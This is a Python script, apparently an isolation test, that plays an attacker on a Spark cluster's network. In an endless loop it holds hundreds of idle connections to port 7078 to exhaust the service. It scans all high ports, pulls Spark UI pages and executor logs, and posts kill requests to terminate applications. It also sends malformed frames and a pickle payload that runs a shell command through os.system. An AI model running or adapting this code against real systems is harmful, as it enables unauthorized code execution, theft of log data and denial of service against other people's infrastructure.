"""What a stranger on the hosts' network tries, again and again: `python outsider.py HOST...`.

It says of each round which ports it found, and everything that it was told there.
"""

import os
import re
import socket
import sys
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

SILENT = 600
GATHERING = 7078
PAGES = (
    "GET /",
    "GET /json/",
    "GET /logPage/?appId={application}&executorId=0&logType=stdout",
    "GET /logPage/?appId={application}&executorId=0&logType=stderr",
    "POST /app/kill/?id={application}&terminate=true",
)
APPLICATION = re.compile(r"app-\d+-\d+")


def garbage() -> Iterator[bytes]:
    yield os.urandom(4096)
    yield b"\xff" * 4096
    yield b"\x80\x05cos\nsystem\n(S'touch /opt/ml/output/owned'\ntR."
    # As Spark's frames begin: eight bytes that say how long it is.
    yield (2**31 - 1).to_bytes(8, "big") + bytes(2**20)
    yield (21).to_bytes(8, "big") + b"\x03" + bytes(20)


def says(host: str, port: int, said: bytes) -> bytes:
    """What the other side answers within a second, at most 64 KiB."""
    heard = b""
    try:
        with socket.create_connection((host, port), timeout=3) as connection:
            connection.settimeout(1)
            connection.sendall(said)
            while len(heard) < 2**16 and (part := connection.recv(2**16)):
                heard += part
    except OSError:
        pass
    return heard


def is_open(host: str, port: int) -> bool:
    try:
        socket.create_connection((host, port), timeout=3).close()
    except OSError:
        return False
    return True


def tried_at(host: str, port: int) -> str:
    """All that a port tells a stranger."""
    heard, application = "", "app-0-0000"
    for line in PAGES:
        method, path = line.format(application=application).split()
        body = path.partition("?")[2] if method == "POST" else ""
        request = (
            f"{method} {path} HTTP/1.0\r\nContent-Type: application/x-www-form-urlencoded\r\n"
            f"Content-Length: {len(body)}\r\n\r\n{body}"
        )
        heard += says(host, port, request.encode()).decode(errors="replace")
        if named := APPLICATION.search(heard):
            application = named[0]
    return heard + "".join(says(host, port, one).decode(errors="replace") for one in garbage())


def stand_silently(host: str, port: int) -> list[socket.socket]:
    standing = []
    for _ in range(SILENT):
        try:
            standing.append(socket.create_connection((host, port), timeout=3))
        except OSError:
            break
    return standing


def main(hosts: list[str]) -> None:
    number = 0
    while True:
        number += 1
        standing = stand_silently(hosts[0], GATHERING)
        print(f"round {number}: {len(standing)} stand silently", flush=True)
        with ThreadPoolExecutor(128) as threads:
            places = [(host, port) for host in hosts for port in range(1024, 65536)]
            opened = threads.map(lambda place: is_open(*place), places)
            found = [place for place, is_there in zip(places, opened, strict=True) if is_there]
            print(f"round {number}: open {found}", flush=True)
            for place, heard in zip(found, threads.map(lambda place: tried_at(*place), found), strict=True):
                print(f"round {number}: {place} told {heard!r}", flush=True)
        for one in standing:
            one.close()
        print(f"round {number}: over", flush=True)


if __name__ == "__main__":
    main(sys.argv[1:])
